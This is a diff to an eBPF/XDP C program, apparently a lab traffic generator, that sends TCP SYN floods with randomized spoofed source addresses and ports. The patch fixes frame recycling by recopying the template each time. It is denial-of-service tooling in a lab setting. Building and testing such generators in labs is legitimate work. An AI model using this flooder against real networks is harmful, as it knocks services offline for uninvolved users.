@@ -8,10 +8,14 @@
  * and sequence number, patches both checksums incrementally and sends the frame
  * with XDP_TX out of the interface named in the context.
  *
- * Live-frame pages are recycled without being rewritten, so a repetition sees
- * either the template or its own earlier output: the checksums are updated from
- * whatever values the frame holds now (RFC 1624), never recomputed from the
- * template's.
+ * Live-frame pages are recycled without being rewritten, and a page is not only
+ * ours while it is out: a receiver that XDP_PASSes the frame builds its skb on the
+ * page, and whatever writes into that skb downstream (a balancer encapsulating it,
+ * rewriting its MACs) is in the page when it comes back. So every repetition first
+ * copies the whole template from flood_cfg over the frame, then patches the
+ * template's checksums (RFC 1624). (A generator that patched the frame as it found it
+ * once sent SYNs carrying the balancer's MAC as their source, and the lab's bridge
+ * learned the balancer on the attacker's port: every client lost it.)
  */
 #include <linux/bpf.h>
 #include <linux/if_ether.h>
@@ -21,7 +25,11 @@
 #include <bpf/bpf_endian.h>
 #include <bpf/bpf_helpers.h>
 
+/* The template's length: syn_template() in flood.py builds exactly this. */
+#define FLOOD_FRAME_LEN 74
+
 struct flood_cfg {
+	__u8 frame[80];		/* the template, FLOOD_FRAME_LEN bytes used */
 	__u32 src_base;		/* network byte order: the prefix's first address */
 	__u32 src_hostmask;	/* host byte order: 2^(32 - prefix length) - 1 */
 	__u16 sport_min;	/* host byte order */
@@ -73,12 +81,14 @@ int lab_flood(struct xdp_md *ctx)
 	__u16 sport;
 	__u64 *sent;
 
-	/* The template is option-less IPv4 (flood.py builds it): anything else is not ours. */
-	if ((void *)(tcp + 1) > data_end || eth->h_proto != bpf_htons(ETH_P_IP) ||
-	    ip->ihl != 5 || ip->protocol != IPPROTO_TCP)
+	if (data + FLOOD_FRAME_LEN > data_end)
 		return XDP_DROP;
 	cfg = bpf_map_lookup_elem(&flood_cfg, &zero);
 	if (!cfg)
+		return XDP_DROP;
+	__builtin_memcpy(data, cfg->frame, FLOOD_FRAME_LEN);
+	/* The template is option-less IPv4 (flood.py builds it): anything else is not ours. */
+	if (eth->h_proto != bpf_htons(ETH_P_IP) || ip->ihl != 5 || ip->protocol != IPPROTO_TCP)
 		return XDP_DROP;
 
 	saddr = cfg->src_base | bpf_htonl(bpf_get_prandom_u32() & cfg->src_hostmask);
